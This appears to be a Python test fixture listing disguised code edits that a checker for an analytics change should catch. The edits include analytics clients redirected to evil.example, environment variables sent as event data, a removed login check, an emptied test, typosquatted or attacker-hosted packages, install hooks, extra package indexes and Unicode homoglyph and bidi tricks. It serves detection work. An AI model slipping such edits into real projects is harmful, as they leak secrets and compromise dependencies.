"""Attempts to deceive whoever checks: other names, other clients, other files, other packages."""

from tests.support.hostile_code import Written
from tests.support.hostile_project import PACKAGE

_PY = '    track(user.id, "EVENT", {"kind": order.kind})\n'
_TS = "  track(String(user.id), 'EVENT', { kind: order.kind });\n"
REQUIREMENTS = "flask>=3.1\nposthog>=6\n"
_TRACK = 'from shop.analytics import track\n\ntrack(1, "EVENT", {"kind": 1})\n'


def _lines(family: str, rules: str, language: str = "py", **texts: str) -> tuple[Written, ...]:
    return tuple(
        Written(f"{name.replace('_', ' ')} ({language})", family, frozenset(rules.split()), language, text)
        for name, text in texts.items()
    )


def _file(name: str, path: str, text: str = "x = 1\n", rules: str = "untouched") -> Written:
    return Written(name, "new files that somebody runs", frozenset(rules.split()), inside=_PY, files=((path, text),))


def _manifest(name: str, path: str, old: str, new: str) -> Written:
    own = f"packs/NUMBER/{path}"
    before = ((own, PACKAGE if path == "package.json" else REQUIREMENTS),)
    return Written(name, "packages", frozenset({"untouched"}), inside=_PY, edits=((own, old, new),), before=before)


DISGUISING: tuple[Written, ...] = (
    *_lines(
        "names of events",
        "name captured-once",
        a_name_that_is_put_together='    track(user.id, "EVENT" + str(order.id), {"kind": order.kind})\n',
        a_name_with_a_value='    track(user.id, f"EVENT_{user.email}", {"kind": order.kind})\n',
        a_name_of_the_environment='    track(user.id, os.environ["EVENT"], {"kind": order.kind})\n',
        a_name_in_other_letters='    track(user.id, "EVENT".replace("a", "\u0430"), {"kind": order.kind})\n',
        a_name_that_nobody_planned='    track(user.id, "everything_taken", {"kind": order.kind})\n',
        a_second_event_beside=f'{_PY}    track(user.id, "everything_taken_too", {{"kind": order.kind}})\n',
        the_same_event_twice=_PY + _PY,
        an_event_in_a_comment='    # track(user.id, "EVENT", {"kind": order.kind})\n',
        an_event_in_a_text="    note = 'track(user.id, \"EVENT\")'\n",
        an_event_of_another_function='    logger.debug("EVENT")\n',
    ),
    Written(
        "letters that look alike (py)",
        "names of events",
        frozenset({"name", "captured-once"}),
        inside='    track(user.id, "\u0430rea_closed", {"kind": order.kind})\n',
    ),
    *_lines("names of events", "capture-in-loop", a_loop_of_events=f"    for each in people:\n    {_PY}"),
    *_lines(
        "names of events",
        "untouched parses",
        signs_that_turn_the_text=_PY + "    # \u202e} ni nigda_si fi \u2066\n",
        an_invisible_letter=f"{_PY}    kind\u200b = 1\n",
    ),
    *_lines(
        "names of events",
        "untouched",
        "ts",
        signs_that_turn_the_text=_TS + "  /* \u202e } if (isAdmin) \u2066 begin */\n",
    ),
    *_lines(
        "other clients",
        "untouched secret",
        a_client_of_another_host=(
            "    from posthog import Posthog\n"
            '    Posthog("key", host="https://evil.example").capture("EVENT", distinct_id=user.id)\n'
        ),
        a_client_with_a_key=(
            "    from posthog import Posthog\n"
            '    Posthog("phc_q8Zr2LmX0vTb5KwJ7yNc3PdF6hGs9AuE1iRoV4xW").capture("EVENT", distinct_id=user.id)\n'
        ),
    ),
    *_lines(
        "other clients",
        "untouched secret",
        "ts",
        a_client_of_another_host=(
            f"{_TS}  new (await import('posthog-node')).PostHog('k', {{ host: 'https://evil.example' }});\n"
        ),
    ),
    Written(
        "another host for all (py)",
        "other clients",
        frozenset({"untouched", "additions-only"}),
        inside=_PY,
        edits=(("shop/analytics.py", 'host=os.environ.get("POSTHOG_HOST")', 'host="https://evil.example"'),),
    ),
    Written(
        "a sender that sends more (py)",
        "other clients",
        frozenset({"additions-only", "personal", "untouched"}),
        inside=_PY,
        edits=(("shop/analytics.py", "properties=properties or {})", "properties=dict(os.environ))"),),
    ),
    Written(
        "a sender with a line before (py)",
        "other clients",
        frozenset({"additions-only", "personal", "untouched"}),
        inside=_PY,
        edits=(
            (
                "shop/analytics.py",
                "    client().capture(",
                "    properties = {**(properties or {}), **os.environ}\n    client().capture(",
            ),
        ),
    ),
    Written(
        "another host for all (ts)",
        "other clients",
        frozenset({"untouched", "additions-only"}),
        "ts",
        _TS,
        edits=(("web/lib/analytics.ts", "{ host: process.env.POSTHOG_HOST }", "{ host: 'https://evil.example' }"),),
    ),
    Written(
        "a key in the source (ts)",
        "other clients",
        frozenset({"secret", "additions-only"}),
        "ts",
        _TS,
        edits=(
            ("web/lib/analytics.ts", "process.env.POSTHOG_API_KEY ?? ''", "'phc_q8Zr2LmX0vTb5KwJ7yNc3PdF6hGs9AuE1iRo'"),
        ),
    ),
    Written(
        "a capture in another file (py)",
        "other files",
        frozenset({"place", "captured-once"}),
        edits=(("shop/mail.py", "def send_invitation", f"{_TRACK}\n\ndef send_invitation"),),
    ),
    Written(
        "a line gone from another file (py)",
        "other files",
        frozenset({"additions-only"}),
        inside=_PY,
        edits=(("shop/account.py", "@login_required\ndef cancel_subscription", "def cancel_subscription"),),
    ),
    Written(
        "a test that is emptied (py)",
        "other files",
        frozenset({"additions-only"}),
        inside=_PY,
        edits=(("tests/test_auth.py", "    assert sign_up(client).status_code == 302\n", "    sign_up(client)\n"),),
    ),
    Written(
        "a page with a script (html)",
        "other files",
        frozenset({"untouched", "additions-only"}),
        inside=_PY,
        edits=(("shop/templates/base.html", "<h1>", "<script src=//evil.example></script><h1>"),),
    ),
    _file("a middleware", "web/middleware.ts", "export function middleware() { return 1; }\n"),
    _file(
        "an instrumentation that does more", "web/instrumentation.ts", "export function register() { fetch('/x'); }\n"
    ),
    _file("settings of a build", "web/next.config.js", "module.exports = {};\n"),
    _file("settings of tests", "web/vitest.config.ts", "export default {};\n"),
    _file("settings of types", "web/tsconfig.json", "{}\n"),
    _file("settings of pytest", "pytest.ini", "[pytest]\naddopts = -p evil\n"),
    _file("settings of a setup", "setup.cfg", "[metadata]\n"),
    _file("settings of a server", "gunicorn.conf.py"),
    _file("a script", "scripts/run.sh", "id\n"),
    _file("a start of a package", "shop/__main__.py", "import shop\n"),
    _file("a module named like a package", "posthog.py", "def capture(*a): pass\n"),
    _file("a module named like the language's", "logging.py", "x = 1\n"),
    _file("a command of an app", "shop/management/commands/x.py"),
    _file("a migration", "migrations/versions/x.py", "def upgrade(): pass\n"),
    _file("a page", "web/app/free/page.tsx", "export default function Page() { return null; }\n"),
    _file("a route", "web/app/api/free/route.ts", "export function GET() { return Response.json({}); }\n"),
    _file("a worker", "web/public/sw.js", "self.skipWaiting();\n"),
    _file("a text", "docs/more.md", "more\n"),
    _file("a table of data", "shop/data.json", "{}\n"),
    _manifest(
        "a script after installing",
        "package.json",
        '"prepare": "touch trap"',
        '"prepare": "touch trap", "preinstall": "id"',
    ),
    _manifest("a script that is changed", "package.json", '"postinstall": "touch trap"', '"postinstall": "id"'),
    _manifest("one more package", "package.json", '"next":', '"left-pad": "^1.0.0",\n    "next":'),
    _manifest("a package with a slip", "package.json", '"next":', '"posthog-nodes": "^1.0.0",\n    "next":'),
    _manifest(
        "a package by an address",
        "package.json",
        '"next":',
        '"posthog-js": "git+https://evil.example/x",\n    "next":',
    ),
    _manifest("a package by another name", "package.json", '"next":', '"posthog-js": "npm:evil@1.0.0",\n    "next":'),
    _manifest("a package of a folder", "package.json", '"next":', '"posthog-js": "file:../evil",\n    "next":'),
    _manifest("another version of a package", "package.json", '"^15.3.0"', '"^1.0.0"'),
    _manifest(
        "packages that replace others",
        "package.json",
        '"scripts":',
        '"overrides": {"next": "npm:evil@1"},\n  "scripts":',
    ),
    _manifest("a requirement with a slip", "requirements.txt", "posthog>=6\n", "posthog>=6\npost-hog\n"),
    _manifest(
        "a requirement by an address",
        "requirements.txt",
        "posthog>=6\n",
        "posthog>=6\nposthog @ https://evil.example/x\n",
    ),
    _manifest(
        "another index of requirements",
        "requirements.txt",
        "posthog>=6\n",
        "posthog>=6\n--index-url https://evil.example\n",
    ),
    _manifest(
        "one more index of requirements",
        "requirements.txt",
        "posthog>=6\n",
        "--extra-index-url https://evil.example\nposthog>=6\n",
    ),
    _manifest("requirements of another file", "requirements.txt", "posthog>=6\n", "posthog>=6\n-r /etc/passwd\n"),
    _manifest(
        "a requirement in place",
        "requirements.txt",
        "posthog>=6\n",
        "posthog>=6\n-e git+https://evil.example/x#egg=posthog\n",
    ),
)
